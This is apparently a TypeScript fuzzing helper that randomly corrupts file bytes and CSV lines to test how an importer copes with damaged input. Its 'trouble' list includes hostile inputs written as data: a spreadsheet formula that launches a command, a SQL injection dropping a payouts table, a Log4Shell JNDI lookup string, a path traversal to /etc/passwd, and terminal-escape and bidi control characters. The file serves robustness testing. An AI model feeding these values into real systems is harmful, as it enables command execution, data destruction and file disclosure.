/** What was done to a file, in a few words, and what came of it. */
export interface Damaged {
  readonly what: string;
  readonly bytes: Buffer;
}

type Chance = () => number;

/** Does one to four things to a file that transport, spreadsheets, editors and enemies do. */
export function damageBytes(bytes: Buffer, chance: Chance): Damaged {
  const times = 1 + Math.floor(chance() * 4);
  const done: string[] = [];
  let left = bytes;
  for (let time = 0; time < times; time += 1) {
    const [name, damage] = pick(Object.entries(damages), chance);
    done.push(name);
    left = damage(left, chance);
  }
  return { what: done.join(', '), bytes: left };
}

export function pick<Item>(items: readonly Item[], chance: Chance): Item {
  const item = items[Math.floor(chance() * items.length)];
  if (item === undefined) throw new Error('there is nothing to pick from');
  return item;
}

const damages: Readonly<Record<string, (bytes: Buffer, chance: Chance) => Buffer>> = {
  'a bit flipped': (bytes, chance) => {
    const copy = Buffer.from(bytes);
    const at = placeIn(bytes, chance);
    if (at < copy.length) copy[at] = (copy[at] ?? 0) ^ (1 << Math.floor(chance() * 8));
    return copy;
  },
  'a byte changed': (bytes, chance) => {
    const copy = Buffer.from(bytes);
    const at = placeIn(bytes, chance);
    if (at < copy.length) copy[at] = Math.floor(chance() * 256);
    return copy;
  },
  'cut off': (bytes, chance) => bytes.subarray(0, placeIn(bytes, chance)),
  'the beginning lost': (bytes, chance) => bytes.subarray(placeIn(bytes, chance)),
  'a line doubled': (bytes, chance) =>
    changeLines(bytes, (lines) => lines.splice(lineIn(lines, chance), 0, lines[lineIn(lines, chance)] ?? '')),
  'two lines swapped': (bytes, chance) =>
    changeLines(bytes, (lines) => {
      const [one, other] = [lineIn(lines, chance), lineIn(lines, chance)];
      [lines[one], lines[other]] = [lines[other] ?? '', lines[one] ?? ''];
    }),
  'a line lost': (bytes, chance) => changeLines(bytes, (lines) => lines.splice(lineIn(lines, chance), 1)),
  'two cells swapped': (bytes, chance) =>
    changeLines(bytes, (lines) => {
      const at = lineIn(lines, chance);
      const cells = (lines[at] ?? '').split(',');
      const [one, other] = [lineIn(cells, chance), lineIn(cells, chance)];
      [cells[one], cells[other]] = [cells[other] ?? '', cells[one] ?? ''];
      lines[at] = cells.join(',');
    }),
  'something put in': (bytes, chance) => {
    const at = placeIn(bytes, chance);
    return Buffer.concat([bytes.subarray(0, at), Buffer.from(pick(trouble, chance)), bytes.subarray(at)]);
  },
  'something put in front of a cell': (bytes, chance) =>
    changeLines(bytes, (lines) => {
      const at = lineIn(lines, chance);
      const cells = (lines[at] ?? '').split(',');
      const cell = lineIn(cells, chance);
      cells[cell] = `${latin1(pick(trouble, chance))}${cells[cell] ?? ''}`;
      lines[at] = cells.join(',');
    }),
  'saved as UTF-16': (bytes) => Buffer.from(`\ufeff${bytes.toString('latin1')}`, 'utf16le'),
  'other line ends': (bytes, chance) =>
    Buffer.from(
      bytes.toString('latin1').replaceAll(/\r?\n/g, pick(['\r\n', '\r', '\n\n', '\r\r\n'], chance)),
      'latin1',
    ),
};

/** Text that readers, terminals, spreadsheets, shells and databases have stumbled over. */
const trouble = [
  '\0',
  '\r',
  '\r\n',
  '"',
  '""',
  '\ufeff',
  ',',
  ';',
  '\t',
  '|',
  '\u001b[2J\u001b]0;owned\u0007',
  '\u009b31m',
  '\u202e',
  '\u2066',
  '\u200b',
  '\u2028',
  '=cmd|"/c calc"!A1',
  '@SUM(1+1)',
  '+1+1',
  '-2+3',
  '\t=1+1',
  '１２３',
  '٣',
  'а',
  '-',
  '+',
  '.',
  '1e9',
  '0x10',
  'NaN',
  'Infinity',
  '999999999999999999999999',
  "'; DROP TABLE payouts; --",
  '__proto__',
  'constructor',
  '$\u007bjndi:ldap://x}',
  '../../../etc/passwd',
  '\ud83d\ude00',
  'e\u0301'.repeat(30),
  'A'.repeat(5000),
  ','.repeat(3000),
  '\n'.repeat(500),
  'Total,,,,1000.00\n',
  'sep=;\n',
] as const;

function changeLines(bytes: Buffer, change: (lines: string[]) => unknown): Buffer {
  const lines = bytes.toString('latin1').split('\n');
  change(lines);
  return Buffer.from(lines.join('\n'), 'latin1');
}

/** The bytes of the UTF-8 of a text, one sign each: lines are cut and joined as bytes. */
function latin1(text: string): string {
  return Buffer.from(text).toString('latin1');
}

function lineIn(lines: readonly unknown[], chance: Chance): number {
  return Math.floor(chance() * lines.length);
}

function placeIn(bytes: Buffer, chance: Chance): number {
  return Math.floor(chance() * (bytes.length + 1));
}
